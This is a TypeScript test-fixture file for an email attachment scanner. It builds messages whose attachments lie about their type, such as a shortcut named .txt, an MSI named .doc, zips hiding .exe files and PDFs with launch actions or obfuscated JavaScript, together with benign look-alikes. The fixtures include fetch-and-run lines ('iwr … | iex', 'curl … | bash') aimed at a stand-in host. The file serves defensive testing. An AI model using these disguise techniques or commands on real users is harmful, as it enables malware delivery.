/**
 * True type decides, in every container (issue 8 §4): programs whose names lie (OneNote as .pdf, a
 * shortcut as .txt, an MSI as .doc, a shell script as .txt ...), zips a permissive extractor reads
 * differently from a strict one (junk in front, two archives glued together), and PDFs that launch a
 * program, embed one or run JavaScript (names #xx-escaped). Each with the look-alike that must pass:
 * a text file about these things, a CSV, an ordinary PDF letter and a fillable form.
 */
import CFB from 'cfb';
import { guidBytes } from '../bytes.js';
import { oneNoteSection, peExe, windowsShortcut } from '../executables.js';
import { messageCase, type FixtureCase } from '../manifest.js';
import { photoJpeg } from '../media.js';
import { file } from '../mime.js';
import { pdfForm, pdfLetter, pdfWithAttachment, pdfWithHiddenJavaScript, pdfWithJavaScript, pdfWithLaunch } from '../pdf-files.js';
import { external, staff } from '../people.js';
import { Prng } from '../prng.js';
import { zipBuffer } from '../zip.js';
import { CT, businessText, withFiles } from './common.js';

const { alex, priya, daniel, hannah, marcus, sarah } = staff;
type Staff = (typeof staff)[keyof typeof staff];

const crlfText = (s: string) => Buffer.from(s.replace(/\r?\n/g, '\r\n'), 'utf8');

/** An MSI: a compound file whose root carries the installer class id. */
function msiPackage(): Buffer {
  const c = CFB.utils.cfb_new();
  CFB.utils.cfb_add(c, '\u0005SummaryInformation', new Prng('msi-summary').bytes(512));
  CFB.utils.cfb_add(c, '\u4840\u3f3f\u4577\u446c\u3b6a\u45e4\u4824', new Prng('msi-table').bytes(1024));
  c.FileIndex[0]!.clsid = guidBytes('000c1084-0000-0000-c000-000000000046').toString('hex');
  return Buffer.from(CFB.write(c, { type: 'buffer' }) as Uint8Array);
}

/** A fixed VHD: disk bytes, then the 512-byte 'conectix' footer. */
function vhdDisk(): Buffer {
  const footer = Buffer.alloc(512);
  footer.write('conectix', 0, 'latin1');
  footer.writeUInt32BE(0x00010000, 12);
  footer.write('win ', 28, 'latin1');
  footer.writeUInt32BE(2, 60); // fixed disk
  return Buffer.concat([new Prng('vhd-disk').bytes(8192), footer]);
}

/** A compiled HTML help file: ITSF header, then opaque data. */
function chmHelp(): Buffer {
  const head = Buffer.alloc(0x60);
  head.write('ITSF', 0, 'latin1');
  head.writeUInt32LE(3, 4);
  head.writeUInt32LE(0x60, 8);
  return Buffer.concat([head, new Prng('chm').bytes(2048)]);
}

interface TrueTypeCase {
  readonly file: string;
  readonly description: string;
  readonly from: Staff;
  readonly to: string;
  readonly subject: string;
  readonly body: string;
  readonly filename: string;
  readonly contentType: string;
  readonly data: () => Buffer | Promise<Buffer>;
  readonly expect: FixtureCase['expect'];
}

const one = (c: TrueTypeCase): FixtureCase =>
  messageCase({
    file: c.file,
    description: c.description,
    from: c.from.mailbox,
    to: [c.to],
    expect: c.expect,
    message: async () => ({
      subject: c.subject,
      body: withFiles(businessText(c.from, c.body), [file(await c.data(), { filename: c.filename, contentType: c.contentType })]),
    }),
  });

const REJECT = { decision: 'reject', rules: ['executable-content'], marking: null } as const;
const REJECT_UNSCANNABLE = { decision: 'reject', rules: ['executable-content', 'unscannable'], marking: null } as const;
const ACCEPT = { decision: 'accept', rules: [], absent: ['executable-content', 'unscannable', 'macro-documents'], marking: null } as const;
const LETTER = ['Dear Mr Clarke,', 'Please find the witness availability for 14 March below.', 'Yours sincerely, Alex Turner'];

export const trueTypeCases: FixtureCase[] = [
  one({
    file: 'true-type/onenote-named-pdf.eml',
    description: 'A OneNote section renamed .pdf: a carrier of programs by its bytes, whatever its name.',
    from: alex, to: hannah.mailbox, subject: 'FW: Remittance advice (PDF)',
    body: 'Hannah,\n\nThis came in as a PDF but will not open in Acrobat.',
    filename: 'Remittance advice.pdf', contentType: CT.pdf, data: () => oneNoteSection('remittance-renamed'), expect: REJECT,
  }),
  one({
    file: 'true-type/shortcut-named-txt.eml',
    description: 'A Windows shortcut named .txt that starts hidden PowerShell: executable by its bytes.',
    from: alex, to: hannah.mailbox, subject: 'FW: Notes from the meeting',
    body: 'Hannah,\n\nThe meeting notes, as a text file apparently.',
    filename: 'meeting-notes.txt', contentType: 'text/plain', data: () => windowsShortcut('-w hidden -c "iwr https://x.example.invalid/n | iex"'), expect: REJECT,
  }),
  one({
    file: 'true-type/hta-named-html.eml',
    description: 'An HTML application (<hta:application>) named .html: executable as an HTA, not merely as HTML.',
    from: marcus, to: sarah.mailbox, subject: 'Leave planner',
    body: 'Sarah,\n\nThe leave planner page, open it in the browser.',
    filename: 'leave-planner.html', contentType: CT.html,
    data: () => crlfText('<html><head><title>Leave</title><hta:application id="planner" border="none"/></head><body><p>Loading the planner</p></body></html>\n'),
    expect: REJECT,
  }),
  one({
    file: 'true-type/chm-help-file.eml',
    description: 'A compiled HTML help file (ITSF) named .pdf: runs script when opened.',
    from: marcus, to: daniel.mailbox, subject: 'Radio user guide',
    body: 'Dan,\n\nThe user guide for the new radios.',
    filename: 'Radio guide.pdf', contentType: CT.pdf, data: chmHelp, expect: REJECT,
  }),
  one({
    file: 'true-type/msi-named-doc.eml',
    description: 'A Windows installer (compound file with the MSI class id) named .doc.',
    from: marcus, to: priya.mailbox, subject: 'Updated referral form',
    body: 'Priya,\n\nThe updated referral form.',
    filename: 'Referral form.doc', contentType: CT.doc, data: msiPackage, expect: REJECT,
  }),
  one({
    file: 'true-type/vhd-disk-image.eml',
    description: 'A VHD disk image (conectix footer) named .dat: mounts with a double click; not opened, so also unscannable.',
    from: alex, to: hannah.mailbox, subject: 'FW: Backup of the case files',
    body: 'Hannah,\n\nThe backup file they sent us.',
    filename: 'casefiles.dat', contentType: CT.octet, data: vhdDisk, expect: REJECT_UNSCANNABLE,
  }),
  one({
    file: 'true-type/shebang-named-txt.eml',
    description: 'A shell script (#!/bin/bash first line) named .txt: a program by its content.',
    from: marcus, to: daniel.mailbox, subject: 'Steps for the NVR',
    body: 'Dan,\n\nThe steps, in a text file.',
    filename: 'steps.txt', contentType: 'text/plain',
    data: () => crlfText('#!/bin/bash\ncurl -s https://x.example.invalid/agent | bash\n'), expect: REJECT,
  }),
  one({
    file: 'true-type/shebang-lookalike-notes.eml',
    description: 'Negative: notes that mention #!/bin/bash and <hta:application> in prose, and a CSV: text, allowed.',
    from: marcus, to: daniel.mailbox, subject: 'Scripting notes',
    body: 'Dan,\n\nMy notes from the course.',
    filename: 'notes.txt', contentType: 'text/plain',
    data: () => crlfText('Course notes\nA script starts with #!/bin/bash on its first line.\nPhishing HTAs contain <hta:application>.\nMZ is how programs start.\n'),
    expect: ACCEPT,
  }),
  one({
    file: 'true-type/csv-lookalike.eml',
    description: 'Negative: a CSV whose cells hold #!, MZ and @echo off: text, allowed.',
    from: sarah, to: external.council.mailbox, subject: 'Ward panel actions',
    body: 'Joseph,\n\nThe actions list as a CSV.',
    filename: 'actions.csv', contentType: 'text/csv',
    data: () => crlfText('id,action,owner\n1,"#! tag review",SW\n2,MZ boundary,JM\n3,@echo off,IT\n'), expect: ACCEPT,
  }),
  one({
    file: 'true-type/zip-junk-prefix-exe.eml',
    description: 'A zip with junk in front hiding a program: found by its end record and read like 7-Zip reads it.',
    from: alex, to: hannah.mailbox, subject: 'FW: Scanned documents',
    body: 'Hannah,\n\nThe scanned documents archive.',
    filename: 'scans.zip', contentType: CT.zip,
    data: async () => Buffer.concat([new Prng('junk').bytes(4096), await zipBuffer([{ path: 'scan-0001.pdf.exe', data: peExe('Scan') }])]),
    expect: REJECT,
  }),
  one({
    file: 'true-type/zip-concatenated-exe-first.eml',
    description: 'Two zips glued together, the program in the first: a reader of the last directory only would miss it.',
    from: alex, to: hannah.mailbox, subject: 'FW: Photos from the event',
    body: 'Hannah,\n\nThe photos archive.',
    filename: 'photos.zip', contentType: CT.zip,
    data: async () => Buffer.concat([
      await zipBuffer([{ path: 'viewer.exe', data: peExe('Viewer') }]),
      await zipBuffer([{ path: 'readme.txt', data: crlfText('Photos from the ward panel.\n') }]),
    ]),
    expect: REJECT,
  }),
  one({
    file: 'true-type/jpeg-with-zip-glued-on.eml',
    description: 'A JPEG with a zip glued after it holding a program: no viewer shows it, an extractor does; the program is found.',
    from: alex, to: hannah.mailbox, subject: 'FW: Photo of the damage',
    body: 'Hannah,\n\nThe photo they sent.',
    filename: 'damage.jpg', contentType: CT.jpeg,
    data: async () => Buffer.concat([photoJpeg(), await zipBuffer([{ path: 'open-me.exe', data: peExe('OpenMe') }])]),
    expect: REJECT,
  }),
  one({
    file: 'true-type/zip-stored-inner-zip.eml',
    description: 'Negative: an ordinary zip that stores another zip of documents: no anomaly, allowed.',
    from: sarah, to: external.council.mailbox, subject: 'Panel papers',
    body: 'Joseph,\n\nThe panel papers, zipped.',
    filename: 'papers.zip', contentType: CT.zip,
    data: async () => zipBuffer([
      { path: 'agenda.txt', data: crlfText('Agenda\n1. Priorities\n') },
      { path: 'archive.zip', data: await zipBuffer([{ path: 'minutes.txt', data: crlfText('Minutes\n') }]), store: true },
    ]),
    expect: ACCEPT,
  }),
  one({
    file: 'true-type/pdf-launch-action.eml',
    description: 'A PDF whose OpenAction launches cmd.exe: executable content.',
    from: alex, to: hannah.mailbox, subject: 'FW: Invoice 0331',
    body: 'Hannah,\n\nAnother invoice PDF for the cyber team.',
    filename: 'Invoice_0331.pdf', contentType: CT.pdf, data: () => pdfWithLaunch(['Invoice 0331']), expect: REJECT,
  }),
  one({
    file: 'true-type/pdf-embedded-exe.eml',
    description: 'A PDF with an embedded program (file specification with /EF, Flate): the member is executable content.',
    from: alex, to: hannah.mailbox, subject: 'FW: Parcel notice',
    body: 'Hannah,\n\nThe parcel notice PDF.',
    filename: 'Parcel notice.pdf', contentType: CT.pdf, data: () => pdfWithAttachment(['Parcel notice'], 'label-viewer.exe', peExe('Label')), expect: REJECT,
  }),
  one({
    file: 'true-type/pdf-javascript-obfuscated.eml',
    description: 'A PDF that runs JavaScript on open, its names written /J#61vaScript and /J#53: a macro, held for review.',
    from: marcus, to: external.supplier.mailbox, subject: 'Quote form',
    body: 'Hello,\n\nThe quote form as agreed.',
    filename: 'quote.pdf', contentType: CT.pdf,
    data: () => pdfWithJavaScript(['Quote'], 'app.launchURL("https://x.example.invalid/q", true);', true),
    expect: { decision: 'quarantine', rules: ['macro-documents'], absent: ['executable-content'], marking: null },
  }),
  one({
    file: 'true-type/pdf-javascript-object-stream.eml',
    description: 'A PDF whose JavaScript action sits in a compressed object stream behind a broken xref: still a macro.',
    from: marcus, to: external.supplier.mailbox, subject: 'Order form',
    body: 'Hello,\n\nThe order form.',
    filename: 'order.pdf', contentType: CT.pdf, data: () => pdfWithHiddenJavaScript(['Order'], 'this.submitForm("https://x.example.invalid/");'),
    expect: { decision: 'quarantine', rules: ['macro-documents'], absent: ['executable-content'], marking: null },
  }),
  one({
    file: 'true-type/pdf-letter.eml',
    description: 'Negative: an ordinary PDF letter (compressed page content): allowed.',
    from: alex, to: external.solicitor.mailbox, subject: 'Witness availability',
    body: 'Mr Clarke,\n\nPlease see the attached letter.',
    filename: 'letter.pdf', contentType: CT.pdf, data: () => pdfLetter(LETTER), expect: ACCEPT,
  }),
  one({
    file: 'true-type/pdf-fillable-form.eml',
    description: "Negative: a fillable PDF form whose only script is Acrobat's own number formatting: allowed.",
    from: sarah, to: external.council.mailbox, subject: 'Grant claim form',
    body: 'Joseph,\n\nThe claim form to fill in.',
    filename: 'claim-form.pdf', contentType: CT.pdf, data: () => pdfForm(['Grant claim']), expect: ACCEPT,
  }),
];
